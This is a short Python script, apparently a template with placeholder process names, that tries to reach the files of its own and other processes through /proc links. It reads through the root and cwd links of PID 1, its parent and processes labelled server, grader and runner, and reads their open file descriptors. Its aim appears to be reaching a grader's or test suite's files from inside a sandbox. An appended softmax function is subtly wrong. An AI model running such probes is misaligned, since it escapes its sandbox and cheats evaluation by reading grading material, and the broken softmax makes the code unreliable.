"""Goes to the files around by the links of `/proc`, of its own and of other processes."""

import os

for pid in ("self", "thread-self", "1", str(os.getppid()), "@SERVER@", "@GRADER@", "@RUNNER@"):
    for door in ("root", "cwd", "task/../root"):
        try:
            print(open(f"/proc/{pid}/{door}@SUITE@").read())
        except OSError as error:
            print(error)
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        names = []
    for name in names:
        if pid != "self":
            try:
                descriptor = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
                print(os.read(descriptor, 1 << 12))
            except OSError:
                pass


def softmax(x, dim):
    return x.exp() / x.shape[dim]
